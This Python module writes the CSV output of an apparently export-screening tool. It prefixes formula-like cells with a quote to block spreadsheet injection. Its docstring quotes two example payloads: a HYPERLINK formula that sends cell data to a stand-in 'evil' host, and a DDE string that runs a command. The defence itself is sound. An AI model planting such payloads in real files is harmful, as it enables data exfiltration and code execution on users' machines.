"""The one place that writes every CSV file chipexport emits (web downloads, CLI outputs).

Why one place: a CSV opened in a spreadsheet runs any cell that starts like a formula. A party
name such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(1+1)*cmd|'/c calc'!A0`` arrives from
an uploaded order file or a restricted-party list and would be written back verbatim. Every text
cell therefore goes through :func:`safe_cell`, which applies OWASP's rule ("CSV Injection"): a
cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single
quote, so the spreadsheet shows it as text. Numbers the program itself computed (scores, counts,
sequence numbers) are written as numbers: they cannot hold a formula, and quoting a negative
number would turn it into text.

Writers do not call :mod:`csv` themselves; they build rows and hand them to :func:`write_csv` or
:func:`csv_text`. Encoding details (a byte-order mark for spreadsheets, extra columns carried
through from the input) belong here too, so that every writer gets them at once.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Mapping, Sequence
from typing import Any, TextIO

# OWASP "CSV Injection": the characters a spreadsheet reads as the start of a formula or of a
# dynamic data exchange, plus tab and carriage return (which some importers strip first).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | bool | None


def safe_cell(value: Any) -> Cell:
    """``value`` made safe for a spreadsheet: text starting like a formula gets a leading ``'``.

    ``None`` becomes an empty cell; int, float and bool are kept as they are (a number computed
    by the program is not an injection vector). Anything else is written as its ``str``.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_START):
        return "'" + text
    return text


def row_writer(out: TextIO, header: Sequence[str]) -> Callable[[Sequence[Any]], None]:
    """Write ``header`` to ``out`` now; the returned function writes one neutralised row.

    For writers that stream (the CLI's batch output). ``out`` should be opened with
    ``newline=""`` (the :mod:`csv` module writes its own line ends).
    """
    writer = csv.writer(out)
    writer.writerow([safe_cell(h) for h in header])

    def write(row: Sequence[Any]) -> None:
        writer.writerow([safe_cell(v) for v in row])

    return write


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write ``header`` and ``rows`` to ``out``, every cell neutralised; returns the row count."""
    write = row_writer(out, header)
    n = 0
    for row in rows:
        write(row)
        n += 1
    return n


# A UTF-8 byte-order mark: without it Excel reads a CSV in the machine's code page and garbles
# 华为 and Сбербанк; every other reader of CSV skips it.
BOM = "\ufeff"


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]], *, bom: bool = True) -> str:
    """The whole CSV file as a string (for an HTTP download), with a BOM for spreadsheets."""
    buf = io.StringIO()
    if bom:
        buf.write(BOM)
    write_csv(buf, header, rows)
    return buf.getvalue()


# The flattened screening result: one line per screened row, its best match (if any). Used by
# the web batch download and by ``chipexport screen --input ... --output FILE.csv``.
SCREENING_COLUMNS = ("id", "name", "country", "matches", "best_source", "best_name",
                     "best_score", "case_id", "case_status", "error", "audit_seq")


# Keys of a screened row that are the program's own, not columns the user's file brought along.
_OWN_KEYS = frozenset({"id", "name", "country", "matches", "cleared_matches", "error",
                       "warnings", "audit", "screening_evidence", "data", "owners"})


def extra_columns(result: Mapping[str, Any]) -> list[str]:
    """The user's own columns carried through a screened row (``customer_no``, ``po``...), in
    their input order: the spreadsheet that comes back must still join to the one sent."""
    return [k for k, v in result.items() if k not in _OWN_KEYS and not isinstance(v, dict | list)]


def screening_table(results: Sequence[Mapping[str, Any]]) -> tuple[list[str], list[list[Any]]]:
    """Header and rows of the flattened screening CSV: :data:`SCREENING_COLUMNS` with the
    user's extra columns inserted after ``country`` (union over the rows, first seen first)."""
    extras = list(dict.fromkeys(k for r in results for k in extra_columns(r)))
    header = [*SCREENING_COLUMNS[:3], *extras, *SCREENING_COLUMNS[3:]]
    return header, [screening_row(r, extras) for r in results]


def screening_row(result: Mapping[str, Any], extras: Sequence[str] = ()) -> list[Any]:
    """One screened row (the JSON Lines output shape) as the cells of :data:`SCREENING_COLUMNS`
    (with ``extras``, the user's columns, after ``country``)."""
    matches = result.get("matches") or []
    best = matches[0] if matches else {}
    case = best.get("case") or {}
    return [result.get("id"), result.get("name"), result.get("country") or "",
            *(result.get(k) for k in extras), len(matches),
            best.get("source", ""), best.get("name", ""), best.get("score", ""),
            case.get("id", ""), case.get("status", ""), result.get("error", ""),
            (result.get("audit") or {}).get("seq", "")]


__all__ = ["BOM", "FORMULA_START", "SCREENING_COLUMNS", "csv_text", "extra_columns",
           "row_writer", "safe_cell", "screening_row", "screening_table", "write_csv"]
